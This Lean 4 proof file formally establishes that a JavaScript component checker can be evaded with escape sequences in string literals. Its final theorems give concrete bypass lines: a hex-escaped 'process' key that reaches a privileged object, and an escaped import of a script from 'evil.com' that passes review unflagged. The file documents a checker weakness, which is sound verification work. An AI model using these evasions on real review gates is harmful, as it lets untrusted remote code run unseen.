import ComponentGate.Proofs.Review.Parentheses
import ComponentGate.Proofs.Review.Subscripts
import ComponentGate.Proofs.Syntax.Escapes

/-! Respelling. The rules read a literal as it is spelled and not by its value. An escape in a key makes
every name that the key is part of one that no rule looks for, and an escape in a specifier may make it
one that the policy allows. -/

namespace ComponentGate

open Syntax

/-- A literal with `text` between its quotes. -/
def Draft.quoted (role : Option Role) (row : Nat) (quote : Char) (text : List Char)
    (parts : List Draft) : Draft :=
  .node ⟨.construct .string, role, row, some (String.ofList (quote :: text ++ [quote])), none⟩ parts

/-- A literal, and the same literal with some of its characters respelled. -/
inductive IsRespelled (old new : List Char) : Draft → Draft → Prop where
  | intro {role : Option Role} {row : Nat} {quote : Char} {parts parts' : List Draft}
      (respelled : Respelled old new) (altered : new ≠ old)
      (quiet : ∀ part ∈ parts ++ parts', part.isQuiet = true) :
      IsRespelled old new (.quoted role row quote old parts) (.quoted role row quote new parts')

namespace Frame

/-- Whether what is in the gap is the key of a subscript. -/
def holdsKey (frame : Frame) (part : Draft) : Bool :=
  frame.face.isKind .subscriptExpression && frame.shows part .index

/-- Whether what is in the gap is what a statement loads, or is given to a call that may load it. -/
def holdsSpecifier (frame : Frame) (part : Draft) : Bool :=
  (frame.face.isOneOf loadingKinds && frame.shows part .source) ||
    frame.face.isOneOf [.importRequireClause, .arguments]

end Frame

/-- What the rules have against the constructs around a gap for a dotted name that begins in the gap. -/
def namedObjections (policy : Policy) : List Frame → Draft → List Finding
  | [], _ => []
  | frame :: outer, part =>
    if frame.isNamedBy part then
      (if (frame.plug part).concern.isNamed then (frame.plug part).objections policy else []) ++
        (if frame.face.isOneOf Rule.accessKinds then namedObjections policy outer (frame.plug part)
        else [])
    else []

/-- Whether a gap is the place of a specifier or of a key. -/
def holdsLiteral : List Frame → Draft → Bool
  | [], _ => false
  | frame :: _, part => frame.holdsKey part || frame.holdsSpecifier part

/-- What the rules have against a program and no longer have once a literal reads `new`: what they have
against the name of a subscript by that key and against the names that begin with it, or what they have
against a statement that loads what it may load by the new spelling. -/
def maskedObjections (policy : Policy) : List Frame → Draft → String → List Finding
  | [], _, _ => []
  | frame :: outer, literal, new =>
    if frame.holdsKey literal then
      (frame.plug literal).objections policy ++ namedObjections policy outer (frame.plug literal)
    else if Specifier.isAllowed policy new then (frame.plug literal).objections policy
    else []

section Losses

variable {frame : Frame} {draft other : Draft} {policy : Policy} {gone lost : List Finding}

/-- What is lost of the part in a gap and of the node's own objections is lost of the whole. -/
theorem errors_plug_perm (inner : (other.errors policy ++ lost).Perm (draft.errors policy))
    (own : ((frame.plug other).objections policy ++ gone).Perm ((frame.plug draft).objections policy)) :
    ((frame.plug other).errors policy ++ (lost ++ gone)).Perm ((frame.plug draft).errors policy) := by
  rw [errors_plug, errors_plug]
  rw [List.perm_iff_count] at own inner ⊢
  intro finding
  have owns := own finding
  have inners := inner finding
  simp only [List.count_append] at owns inners ⊢
  omega

/-- Around parts of one outlook nothing else is lost. -/
theorem errors_fill_perm (frames : List Frame) (same : other.outlook = draft.outlook)
    (inner : (other.errors policy ++ lost).Perm (draft.errors policy)) :
    ((Draft.fill frames other).errors policy ++ lost).Perm
      ((Draft.fill frames draft).errors policy) := by
  induction frames generalizing draft other with
  | nil => exact inner
  | cons frame outer ih =>
    have own : (frame.plug other).objections policy ++ [] = (frame.plug draft).objections policy := by
      rw [objections_plug_congr frame policy same, List.append_nil]
    have whole := errors_plug_perm inner (.of_eq own)
    rw [List.append_nil] at whole
    exact ih (outlook_plug_congr same) whole

/-- A construct without its name is objected to as before, unless it was the name that was objected to. -/
theorem objections_nameless_perm (policy : Policy) (nameless : other.concern = draft.concern.nameless)
    (row : other.face.row = draft.face.row) :
    (other.objections policy ++
      if draft.concern.isNamed then draft.objections policy else []).Perm (draft.objections policy) := by
  cases named : draft.concern.isNamed with
  | true =>
    rw [if_pos rfl, Draft.objections, nameless, nameless_eq_empty named, Concern.objections_empty,
      List.nil_append]
  | false =>
    rw [nameless_eq_self named] at nameless
    rw [if_neg (by simp), List.append_nil, objections_congr policy nameless row]

/-- Around a part whose name is obscured the objections to names that begin with it are lost, and
nothing else. -/
theorem errors_obscured_perm (frames : List Frame) (obscured : Obscured other.outlook draft.outlook)
    (inner : (other.errors policy ++ lost).Perm (draft.errors policy)) :
    ((Draft.fill frames other).errors policy ++ (lost ++ namedObjections policy frames draft)).Perm
      ((Draft.fill frames draft).errors policy) := by
  induction frames generalizing draft other lost with
  | nil =>
    rw [namedObjections, List.append_nil]
    exact inner
  | cons frame outer ih =>
    have concern := concern_obscured obscured frame
    cases judged : frame.isNamedBy draft with
    | false =>
      rw [judged, if_neg (by simp)] at concern
      have own : (frame.plug other).objections policy ++ [] = (frame.plug draft).objections policy := by
        rw [objections_congr policy concern rfl, List.append_nil]
      rw [namedObjections, judged, if_neg (by simp)]
      have outlook := outlook_elsewhere frame obscured.plain (apart_of_not_isNamedBy judged)
      exact errors_fill_perm outer outlook (errors_plug_perm inner (.of_eq own))
    | true =>
      rw [judged, if_pos rfl] at concern
      have whole := errors_plug_perm inner (objections_nameless_perm policy concern rfl)
      rw [namedObjections, judged, if_pos rfl, ← List.append_assoc lost]
      cases access : frame.face.isOneOf Rule.accessKinds with
      | false =>
        simp only [Bool.false_eq_true, if_false, List.append_nil]
        have outlook := outlook_elsewhere frame obscured.plain (by rw [access, Bool.false_and])
        exact errors_fill_perm outer outlook whole
      | true =>
        rw [if_pos rfl]
        exact ih (obscured_plug obscured access (by rw [← isNamedBy_access access, judged])) whole

end Losses

section Literals

variable {frame : Frame} {literal literal' : Draft} {old new : List Char} {policy : Policy}

theorem literal_quoted (role : Option Role) (row : Nat) (quote : Char) (text : List Char)
    (parts : List Draft) :
    (Draft.quoted role row quote text parts).outlook.literal = some (String.ofList text) := by
  rw [Draft.outlook_eq]
  simp [Outlook.ofNode, Draft.quoted, Face.literal?]

/-- Of a literal and the respelled one nothing is told apart but what they spell. -/
theorem IsRespelled.seen (spelled : IsRespelled old new literal literal') :
    literal'.outlook.unread = literal.outlook.unread ∧
      literal.outlook.literal = some (String.ofList old) ∧
      literal'.outlook.literal = some (String.ofList new) ∧ '\\' ∈ new := by
  cases spelled with
  | intro respelled altered _ =>
    refine ⟨?_, literal_quoted _ _ _ _ _, literal_quoted _ _ _ _ _, respelled.backslash_mem altered⟩
    rw [Draft.outlook_eq, Draft.outlook_eq]
    rfl

/-- A literal is nothing that a rule inspects, before and after. -/
theorem IsRespelled.quiet (spelled : IsRespelled old new literal literal') :
    literal.isQuiet = true ∧ literal'.isQuiet = true := by
  cases spelled with
  | intro _ _ quiet =>
    rw [List.forall_mem_append] at quiet
    rw [isQuiet_iff, isQuiet_iff]
    exact ⟨⟨rfl, quiet.1⟩, rfl, quiet.2⟩

theorem errors_quiet {draft : Draft} (quiet : draft.isQuiet = true) : draft.errors policy = [] := by
  induction draft using Draft.induction_on_children with
  | step draft ih =>
    obtain ⟨own, below⟩ := isQuiet_iff.1 quiet
    have concern : draft.concern = Concern.empty := congrArg Scene.concern (scene_quiet own false)
    rw [Draft.errors_eq, Draft.objections, concern, Concern.objections_empty, List.nil_append,
      List.flatMap_eq_nil_iff]
    exact fun child member => ih child member (below child member)

theorem nameless_unread (frame : Frame) {other draft : Draft}
    (alike : other.outlook.unread = draft.outlook.unread)
    (deaf : frame.face.isOneOf [.memberExpression, .markupAttribute] = false) :
    (frame.plug other).outlook.nameless = (frame.plug draft).outlook.nameless := by
  have same : (frame.plug other).inside.map Outlook.unread =
      (frame.plug draft).inside.map Outlook.unread := by
    simp [Frame.inside_plug, alike]
  rw [outlook_plug, outlook_plug,
    ← Outlook.nameless_ofNode_unread frame.face (frame.plug other).inside deaf, same,
    Outlook.nameless_ofNode_unread _ _ deaf]

theorem IsRespelled.role (spelled : IsRespelled old new literal literal') :
    literal'.face.role = literal.face.role :=
  role_of_outlook (view_congr spelled.seen.1 _ fun _ => rfl)

/-- A subscript by the respelled key has an obscure name. -/
theorem IsRespelled.obscured (spelled : IsRespelled old new literal literal')
    (key : frame.holdsKey literal = true) :
    Obscured (frame.plug literal').outlook (frame.plug literal).outlook := by
  obtain ⟨alike, -, reads, backslash⟩ := spelled.seen
  rw [Frame.holdsKey, Bool.and_eq_true, Face.isKind, beq_iff_eq] at key
  obtain ⟨kind, shown⟩ := key
  have deaf : frame.face.isOneOf [.memberExpression, .markupAttribute] = false := by
    simp [Face.isOneOf, kind]
  refine ⟨nameless_unread frame alike deaf, @obscure_access (frame.plug literal') ?_ (.inr ?_)⟩
  · simp [Face.isOneOf, kind, Rule.accessKinds]
  · rw [← shows_congr spelled.role] at shown
    have held := played_of_shows shown
    rw [Draft.played] at held
    intro name found
    rw [Outlook.key?, held, Frame.face_plug, Face.isKind, kind, if_neg (by decide), Option.bind_some,
      reads] at found
    obtain rfl := Option.some.inj found
    simpa [isObscure] using backslash

/-- A subscript with an obscure name is not objected to. -/
theorem objections_obscure {draft : Draft} (access : draft.face.isOneOf Rule.accessKinds = true)
    (obscure : ∀ name ∈ draft.outlook.dotted, isObscure name = true) :
    draft.objections policy = [] := by
  have unreached : draft.outlook.dotted.bind Rule.reached? = none :=
    Option.bind_eq_none_iff.2 fun name named => reached_obscure (obscure name named)
  rw [Draft.objections, Draft.concern_access draft access, unreached]
  rfl

theorem isOneOf_of_holdsSpecifier (specifier : frame.holdsSpecifier literal = true) :
    frame.face.isOneOf (loadingKinds ++ [.importRequireClause, .arguments]) = true := by
  rw [Frame.holdsSpecifier, Bool.or_eq_true, Bool.and_eq_true] at specifier
  cases sort : frame.face.kind? with
  | none => simp [Face.isOneOf, sort] at specifier
  | some kind =>
    simp only [Face.isOneOf, sort, Option.any_some, List.contains_iff_mem] at specifier ⊢
    exact List.mem_append.2 (specifier.imp_left And.left)

/-- What holds a specifier is seen alike with either literal. -/
theorem IsRespelled.outlook (spelled : IsRespelled old new literal literal')
    (specifier : frame.holdsSpecifier literal = true) :
    (frame.plug literal').outlook = (frame.plug literal).outlook := by
  have loads := isOneOf_of_holdsSpecifier specifier
  have deaf := isOneOf_disjoint [.memberExpression, .markupAttribute] loads (by decide)
  have access := isOneOf_disjoint Rule.accessKinds loads (by decide)
  have unspelled := isOneOf_disjoint [.identifier, .thisName] loads (by decide)
  refine eq_of_nameless (nameless_unread frame spelled.seen.1 deaf) ?_
  simp [outlook_plug, Outlook.ofNode, Outlook.dotted?, access, unspelled]

/-- What holds a specifier is objected to for nothing but the specifier of a statement. -/
theorem concern_loading (specifier : frame.holdsSpecifier literal = true) (draft : Draft) :
    (frame.plug draft).concern = { Concern.empty with
      specifier := if frame.face.isOneOf loadingKinds then
        ((frame.plug draft).played .source).bind Outlook.literal else none } := by
  have loads := isOneOf_of_holdsSpecifier specifier
  have call := isOneOf_disjoint [.callExpression] loads (by decide)
  have construction := isOneOf_disjoint [.newExpression] loads (by decide)
  have access := isOneOf_disjoint Rule.accessKinds loads (by decide)
  have assignment := isOneOf_disjoint Rule.assignmentKinds loads (by decide)
  have word := isOneOf_disjoint bareNameKinds loads (by decide)
  have naming : (frame.plug draft).face.namingRole? = none := by
    simp [Face.namingRole?, namingParts, call, construction, access, assignment]
  rw [Draft.concern_other _ naming, Frame.face_plug, word]
  rfl

theorem objections_idle (specifier : frame.holdsSpecifier literal = true)
    (idle : frame.face.isOneOf loadingKinds = false) (draft : Draft) :
    (frame.plug draft).objections policy = [] := by
  rw [Draft.objections, concern_loading specifier, idle]
  rfl

/-- A statement is objected to exactly if it loads what is not allowed. -/
theorem objections_loading (specifier : frame.holdsSpecifier literal = true)
    (loading : frame.face.isOneOf loadingKinds = true) {draft : Draft}
    (role : draft.face.role = literal.face.role) {text : String}
    (reads : draft.outlook.literal = some text) :
    (frame.plug draft).objections policy = [] ↔ Specifier.isAllowed policy text = true := by
  have shown : frame.shows draft .source = true := by
    have other := isOneOf_disjoint [.importRequireClause, .arguments] loading (by decide)
    rw [shows_congr role]
    simpa [Frame.holdsSpecifier, loading, other] using specifier
  rw [Draft.objections_eq_nil_iff, concern_loading specifier, if_pos loading, played_of_shows shown,
    Option.bind_some, reads]
  simp [Concern.isForbidden, Concern.empty]

end Literals

section Masking

variable {frame : Frame} {literal literal' : Draft} {old new : List Char} {policy : Policy}

theorem eq_nil_iff_perm {less lost list : List Finding} (split : (less ++ lost).Perm list) :
    less = [] ↔ list.Perm lost := by
  constructor
  · rintro rfl
    exact split.symm
  · intro same
    have lengths := (split.trans same).length_eq
    rw [List.length_append] at lengths
    exact List.length_eq_zero_iff.1 (by omega)

/-- Nothing is lost of a literal itself. -/
theorem IsRespelled.errors_perm (spelled : IsRespelled old new literal literal') :
    (literal'.errors policy ++ []).Perm (literal.errors policy) := by
  obtain ⟨quiet, quiet'⟩ := spelled.quiet
  rw [errors_quiet quiet, errors_quiet quiet', List.append_nil]

theorem maskedObjections_specifier (outer : List Frame) (specifier : frame.holdsSpecifier literal = true)
    (new : String) :
    maskedObjections policy (frame :: outer) literal new =
      if Specifier.isAllowed policy new then (frame.plug literal).objections policy else [] := by
  have other := isOneOf_disjoint [.subscriptExpression] (isOneOf_of_holdsSpecifier specifier) (by decide)
  rw [maskedObjections, Frame.holdsKey, isKind_eq_false other (by decide), Bool.false_and,
    if_neg (by simp)]

theorem errors_rekeyed_perm (outer : List Frame) (spelled : IsRespelled old new literal literal')
    (key : frame.holdsKey literal = true) :
    ((Draft.fill (frame :: outer) literal').errors policy ++
        maskedObjections policy (frame :: outer) literal (String.ofList new)).Perm
      ((Draft.fill (frame :: outer) literal).errors policy) := by
  have obscured := spelled.obscured key
  have access : frame.face.isOneOf Rule.accessKinds = true := by
    rw [Frame.holdsKey, Bool.and_eq_true, Face.isKind, beq_iff_eq] at key
    simp [Face.isOneOf, key.1, Rule.accessKinds]
  have silent : (frame.plug literal').objections policy = [] :=
    @objections_obscure policy (frame.plug literal') access obscured.obscure
  have own : (frame.plug literal').objections policy ++ (frame.plug literal).objections policy =
      (frame.plug literal).objections policy := by rw [silent, List.nil_append]
  rw [maskedObjections, if_pos key]
  exact errors_obscured_perm outer obscured (errors_plug_perm spelled.errors_perm (.of_eq own))

theorem errors_reloaded_perm (outer : List Frame) (spelled : IsRespelled old new literal literal')
    (specifier : frame.holdsSpecifier literal = true)
    (allowed : frame.face.isOneOf loadingKinds = true →
      Specifier.isAllowed policy (String.ofList new) = true) :
    ((Draft.fill (frame :: outer) literal').errors policy ++
        maskedObjections policy (frame :: outer) literal (String.ofList new)).Perm
      ((Draft.fill (frame :: outer) literal).errors policy) := by
  have own : (frame.plug literal').objections policy ++
        (if Specifier.isAllowed policy (String.ofList new) then (frame.plug literal).objections policy
        else []) = (frame.plug literal).objections policy := by
    cases loading : frame.face.isOneOf loadingKinds with
    | false => simp [objections_idle specifier loading]
    | true =>
      obtain ⟨-, -, reads, -⟩ := spelled.seen
      have passes := allowed loading
      rw [(objections_loading specifier loading spelled.role reads).2 passes, if_pos passes,
        List.nil_append]
  rw [maskedObjections_specifier outer specifier]
  exact errors_fill_perm outer (spelled.outlook specifier)
    (errors_plug_perm spelled.errors_perm (.of_eq own))

/-- A program is rid of its errors by a respelled literal exactly if the respelling masks them all. -/
theorem errors_respelled_iff {frames : List Frame} (spelled : IsRespelled old new literal literal')
    (held : holdsLiteral frames literal = true)
    (rejected : (Draft.fill frames literal).errors policy ≠ []) :
    (Draft.fill frames literal').errors policy = [] ↔
      ((Draft.fill frames literal).errors policy).Perm
        (maskedObjections policy frames literal (String.ofList new)) := by
  obtain ⟨frame, outer, rfl⟩ : ∃ frame outer, frames = frame :: outer := by
    cases frames with
    | nil => cases held
    | cons frame outer => exact ⟨frame, outer, rfl⟩
  rw [holdsLiteral, Bool.or_eq_true] at held
  rcases held with key | specifier
  · exact eq_nil_iff_perm (errors_rekeyed_perm outer spelled key)
  · by_cases allowed : frame.face.isOneOf loadingKinds = true →
        Specifier.isAllowed policy (String.ofList new) = true
    · exact eq_nil_iff_perm (errors_reloaded_perm outer spelled specifier allowed)
    · -- the statement is objected to by the new spelling too, and nothing is masked
      obtain ⟨loading, refused⟩ := Classical.not_imp.1 allowed
      obtain ⟨-, -, reads, -⟩ := spelled.seen
      have objected : (frame.plug literal').objections policy ≠ [] :=
        mt (objections_loading specifier loading spelled.role reads).1 refused
      rw [maskedObjections_specifier outer specifier, if_neg refused, List.perm_nil]
      refine iff_of_false (fun accepted => objected ?_) rejected
      have whole := @errors_sublist_fill policy outer (frame.plug literal')
      rw [Draft.fill] at accepted
      rw [accepted, List.sublist_nil, errors_plug, List.append_eq_nil_iff] at whole
      exact whole.1

/-- No rule on a construct says of a program that it cannot be parsed. -/
theorem category_of_mem_objections {draft : Draft} {finding : Finding}
    (member : finding ∈ draft.objections policy) : finding.category ≠ .parseError := by
  have categories : ∀ entry ∈ Rule.charges, entry.1.category ≠ .parseError := by decide
  obtain ⟨entry, listed, said⟩ := List.mem_filterMap.1 member
  obtain ⟨message, -, rfl⟩ := Option.map_eq_some_iff.1 said
  exact categories entry listed

theorem category_of_mem_named {frames : List Frame} {part : Draft} {finding : Finding}
    (member : finding ∈ namedObjections policy frames part) : finding.category ≠ .parseError := by
  induction frames generalizing part with
  | nil => cases member
  | cons frame outer ih =>
    rw [namedObjections] at member
    split at member
    · rw [List.mem_append] at member
      rcases member with own | further
      · split at own
        · exact category_of_mem_objections own
        · cases own
      · split at further
        · exact ih further
        · cases further
    · cases member

theorem category_of_mem_masked {frames : List Frame} {text : String} {finding : Finding}
    (member : finding ∈ maskedObjections policy frames literal text) :
    finding.category ≠ .parseError := by
  cases frames with
  | nil => cases member
  | cons frame outer =>
    rw [maskedObjections] at member
    split at member
    · exact (List.mem_append.1 member).elim category_of_mem_objections category_of_mem_named
    · split at member
      · exact category_of_mem_objections member
      · cases member

end Masking

theorem isValid_iff_filter (report : Report) :
    report.isValid = true ↔ report.findings.filter Finding.isError = [] := by
  simp [Report.isValid, List.filter_eq_nil_iff]

theorem filter_isError_broken {document : Document} {policy : Policy}
    (broken : document.hasErrors = true) :
    (reviewDocument document policy Rule.standard).findings.filter Finding.isError =
      [parseFailure document.errorLine?] := by
  rw [reviewDocument, if_pos broken]
  rfl

/-- By an escape in a specifier or in a key a program that is rejected comes to be accepted exactly if
all that was held against it was held against what the escape masks: the names that the key is part of,
or the specifier, where the policy allows it by its new spelling. -/
theorem isValid_respelled_iff (parse : Parse) (source respelled : String) (policy : Policy)
    (frames : List Frame) (literal literal' : Draft) (old new : List Char)
    (spelled : IsRespelled old new literal literal') (held : holdsLiteral frames literal = true)
    (rejected : (review parse source policy Rule.standard).isValid = false)
    (before : (Document.ofSource parse source).draft (Document.ofSource parse source).root =
      .fill frames literal)
    (after : (Document.ofSource parse respelled).draft (Document.ofSource parse respelled).root =
      .fill frames literal') :
    (review parse respelled policy Rule.standard).isValid = true ↔
      ((review parse source policy Rule.standard).findings.filter Finding.isError).Perm
        (maskedObjections policy frames literal (String.ofList new)) := by
  obtain ⟨quiet, quiet'⟩ := spelled.quiet
  have broken : (Document.ofSource parse respelled).hasErrors =
      (Document.ofSource parse source).hasErrors := by
    rw [hasErrors_draft, hasErrors_draft, before, after]
    exact hasError_fill ((hasError_quiet quiet').trans (hasError_quiet quiet).symm)
  rw [← Bool.not_eq_true, isValid_iff_filter, review_eq] at rejected
  rw [isValid_iff_filter, review_eq, review_eq]
  cases readable : (Document.ofSource parse source).hasErrors with
  | false =>
    rw [filter_isError_draft readable, before] at rejected ⊢
    rw [filter_isError_draft (broken.trans readable), after]
    exact errors_respelled_iff spelled held rejected
  | true =>
    rw [filter_isError_broken readable, filter_isError_broken (broken.trans readable)]
    refine iff_of_false (by simp) fun same => ?_
    exact category_of_mem_masked (same.subset (List.mem_singleton_self _)) rfl

def systemImport : String := "import 'fs';\n"

def escapedImport : String := "import '\\x66s';\n"

def systemLiteral : Draft :=
  .quoted (some .source) 0 '\'' ['f', 's'] [
    .token "'" 0, .node ⟨.construct .stringFragment, none, 0, none, none⟩ [], .token "'" 0]

def escapedLiteral : Draft :=
  .quoted (some .source) 0 '\'' ['\\', 'x', '6', '6', 's'] [
    .token "'" 0, .node ⟨.construct .escapeSequence, none, 0, none, none⟩ [],
    .node ⟨.construct .stringFragment, none, 0, none, none⟩ [], .token "'" 0]

theorem escapedImport_rejected :
    (review Syntax.parse systemImport .standard Rule.standard).isValid = false ∧
      (review Syntax.parse escapedImport .standard Rule.standard).isValid = false := by
  have respelled : Respelled ['f', 's'] ['\\', 'x', '6', '6', 's'] :=
    @Respelled.escaped ['f'] 0x66 '6' '6' _ _ (.plain rfl) rfl (respelled_plain rfl)
  have spelled : IsRespelled ['f', 's'] ['\\', 'x', '6', '6', 's'] systemLiteral escapedLiteral :=
    .intro respelled (by decide) (by decide +kernel)
  -- evaluated together, so that each text is parsed once
  obtain ⟨held, rejected, before, after, unmasked⟩ :
      holdsLiteral ((Document.ofSource Syntax.parse systemImport).gap [0, 1]).1 systemLiteral = true ∧
        (review Syntax.parse systemImport .standard Rule.standard).isValid = false ∧
        (Document.ofSource Syntax.parse systemImport).draft
            (Document.ofSource Syntax.parse systemImport).root =
          .fill ((Document.ofSource Syntax.parse systemImport).gap [0, 1]).1 systemLiteral ∧
        (Document.ofSource Syntax.parse escapedImport).draft
            (Document.ofSource Syntax.parse escapedImport).root =
          .fill ((Document.ofSource Syntax.parse systemImport).gap [0, 1]).1 escapedLiteral ∧
        ¬((review Syntax.parse systemImport .standard Rule.standard).findings.filter
            Finding.isError).Perm
          (maskedObjections .standard ((Document.ofSource Syntax.parse systemImport).gap [0, 1]).1
            systemLiteral (String.ofList ['\\', 'x', '6', '6', 's'])) := by decide +kernel
  have kept := mt (isValid_respelled_iff Syntax.parse systemImport escapedImport .standard _ _ _ _ _
    spelled held rejected before after).1 unmasked
  exact ⟨rejected, Bool.not_eq_true _ ▸ kept⟩

/-- By an escape in a key a privileged object is reached unseen, and by one in a specifier a host looks
like a path. -/
theorem escapedNames_accepted :
    (Respelled "process".toList "\\x70rocess".toList ∧
        (review Syntax.parse "window['process'].exit();\n" .standard Rule.standard).isValid = false ∧
        (review Syntax.parse "window['\\x70rocess'].exit();\n" .standard Rule.standard).findings = []) ∧
      Respelled "//evil.com/x.js".toList "/\\x2fevil.com/x.js".toList ∧
        (review Syntax.parse "import '//evil.com/x.js';\n" .standard Rule.standard).isValid = false ∧
        (review Syntax.parse "import '/\\x2fevil.com/x.js';\n" .standard Rule.standard).findings = [] := by
  have key : Respelled "process".toList "\\x70rocess".toList :=
    @Respelled.escaped ['p'] 0x70 '7' '0' _ _ (.plain rfl) rfl (respelled_plain rfl)
  have specifier : Respelled "//evil.com/x.js".toList "/\\x2fevil.com/x.js".toList :=
    @Respelled.kept ['/'] _ _ _ (.plain rfl)
      (@Respelled.escaped ['/'] 0x2f '2' 'f' _ _ (.plain rfl) rfl (respelled_plain rfl))
  exact ⟨⟨key, by decide +kernel⟩, specifier, by decide +kernel⟩

end ComponentGate
